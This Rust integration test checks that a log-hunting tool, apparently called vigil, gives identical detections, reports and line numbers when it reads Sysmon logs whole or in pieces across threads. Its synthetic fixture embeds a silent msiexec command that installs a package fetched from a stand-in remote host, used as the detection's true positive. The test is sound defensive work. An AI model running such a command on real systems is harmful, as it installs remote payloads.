//! Large files are read in pieces by every thread (vigil-scan); the output must not change.
//! `VIGIL_PIECE_BYTES` makes pieces small enough that the real logs (read at run time from
//! ../shared, skipped when absent) and a generated file are cut into many.

mod common;

use common::*;
use std::process::Command;

fn hunt(args: &[&str], piece_bytes: Option<&str>) -> (String, String) {
    run("hunt", args, piece_bytes)
}

fn run(command: &str, args: &[&str], piece_bytes: Option<&str>) -> (String, String) {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_vigil"));
    cmd.arg(command).args(args).current_dir(repo());
    if let Some(bytes) = piece_bytes {
        cmd.env("VIGIL_PIECE_BYTES", bytes);
    }
    let out = cmd.output().expect("run vigil");
    assert!(out.status.success(), "{}", stderr(&out));
    // Timings differ from run to run; everything else on stderr must not.
    let err = stderr(&out)
        .lines()
        .filter(|l| !l.starts_with("vigil: scan ") && !l.starts_with("vigil: after the scan") && !l.starts_with("vigil: in the scan"))
        .collect::<Vec<_>>()
        .join("\n");
    (stdout(&out), err)
}

#[test]
fn real_logs_in_pieces_give_the_same_results_and_report() {
    let Some(shared) = shared() else {
        eprintln!("note: ../shared absent, skipping");
        return;
    };
    let real = shared.join("data/real");
    let escu = shared.join("escu");
    let mut args = vec!["--threads", "2", "--format", "jsonl", "--verbose"];
    let content = escu.to_string_lossy().into_owned();
    if escu.is_dir() {
        args.extend(["--content", &content]);
    }
    let real = real.to_string_lossy().into_owned();
    args.push(&real);
    let whole = hunt(&args, Some("18446744073709551615"));
    let pieces = hunt(&args, Some("65536"));
    assert!(!whole.0.is_empty(), "no results to compare");
    assert_eq!(pieces.0, whole.0);
    assert_eq!(pieces.1, whole.1);
}

#[test]
fn one_generated_file_in_pieces_matches_one_thread() {
    let dir = tempfile::tempdir().unwrap();
    let path = generated_file(dir.path());
    // The seed detection reads no line number: the pieces are read without counting their
    // lines first, and the report's examples are numbered afterwards.
    let one = hunt(&["--threads", "1", "--format", "jsonl", "--verbose", &path], None);
    let pieces = hunt(&["--threads", "2", "--format", "jsonl", "--verbose", &path], Some("65536"));
    assert!(one.0.contains("pkg.msi"), "the seed detection fires: {}", one.1);
    assert!(one.1.contains(&format!("{path}:5005: not an event")), "{}", one.1);
    assert_eq!(pieces.0, one.0);
    assert_eq!(pieces.1, one.1);
}

#[test]
fn line_numbers_of_events_read_in_pieces_are_those_of_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = generated_file(dir.path());
    // Raw events carry `record`, their line in the file: the pieces are numbered first.
    let search = "search EventID=1 Image=*msiexec.exe | table record CommandLine";
    let one = run("search", &["--threads", "1", "--format", "jsonl", "--verbose", search, &path], None);
    let pieces = run("search", &["--threads", "2", "--format", "jsonl", "--verbose", search, &path], Some("65536"));
    assert!(one.0.contains("\"record\":\"5506\""), "{}", one.0);
    assert_eq!(pieces.0, one.0);
    assert_eq!(pieces.1, one.1);
}

/// Writes 6 000 synthetic Sysmon process creations with a junk line after every 1 000th; every
/// 500th event is the seed detection's true positive. Returns the file's path.
fn generated_file(dir: &std::path::Path) -> String {
    let file = dir.join("one.xml");
    let mut text = String::new();
    for i in 0..6000 {
        // Synthetic Sysmon process creations; every 500th is the seed detection's true positive.
        let image = if i % 500 == 0 { "C:\\Windows\\System32\\msiexec.exe" } else { "C:\\Windows\\System32\\svchost.exe" };
        let cmd = if i % 500 == 0 { "msiexec.exe /q /i http://198.51.100.7/pkg.msi" } else { "svchost.exe -k netsvcs" };
        text.push_str(&format!(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/><EventID>1</EventID><TimeCreated SystemTime='2026-01-01T00:{:02}:{:02}.000Z'/><EventRecordID>{i}</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>host{}</Computer></System><EventData><Data Name='Image'>{image}</Data><Data Name='CommandLine'>{cmd}</Data><Data Name='ProcessId'>{}</Data><Data Name='User'>CORP\\u{}</Data></EventData></Event>\n",
            i / 60 % 60,
            i % 60,
            i % 13,
            1000 + i,
            i % 7
        ));
        if i % 1000 == 999 {
            text.push_str("not an event\n");
        }
    }
    std::fs::write(&file, text).unwrap();
    file.to_string_lossy().into_owned()
}
